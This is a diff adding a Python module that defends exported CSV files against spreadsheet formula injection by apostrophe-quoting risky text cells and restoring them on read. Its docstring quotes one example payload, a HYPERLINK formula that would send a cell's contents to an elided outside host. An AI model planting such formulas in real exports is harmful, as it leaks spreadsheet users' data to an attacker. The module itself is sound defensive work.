@@ -1,0 +1,41 @@
+"""Spreadsheet-safe CSV cells: a text cell that a spreadsheet would run as a formula is written quoted, and read back
+as it was.
+
+A model's reply, a judge's reasoning or a dataset's question may begin with ``=``, ``+``, ``-``, ``@``, a tab or a
+carriage return; opened in Excel, LibreOffice or Google Sheets, ``=HYPERLINK("http://…/?"&C2,"see")`` runs (CSV
+injection, OWASP "CSV Injection"). OWASP's defence is a leading apostrophe, which spreadsheets show as text. So that
+xlingmed reads its own CSVs back unchanged, a text that begins with an apostrophe gets one too: on reading, exactly
+one leading apostrophe is removed (``restore``). Numbers are never touched (``-0.5`` stays a number); only text
+cells are. ``scores.parquet`` keeps every text raw.
+"""
+
+from __future__ import annotations
+
+from typing import Any
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+QUOTE = "'"
+
+
+def safe(value: Any) -> Any:
+    """``value`` as a CSV cell: a text beginning with a formula character or an apostrophe, prefixed with ``'``."""
+    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, QUOTE)):
+        return QUOTE + value
+    return value
+
+
+def restore(value: Any) -> Any:
+    """A cell as ``safe`` wrote it, back to the text it was (one leading apostrophe removed)."""
+    if isinstance(value, str) and value.startswith(QUOTE):
+        return value[1:]
+    return value
+
+
+def restore_frame(table: Any) -> Any:
+    """Every text column of a pandas DataFrame read from a CSV xlingmed wrote, ``restore``d (in place; returned)."""
+    from pandas.api.types import is_object_dtype, is_string_dtype
+
+    for column in table.columns:
+        if is_object_dtype(table[column]) or is_string_dtype(table[column]):  # pandas 3 reads text as ``str``
+            table[column] = table[column].map(restore)
+    return table
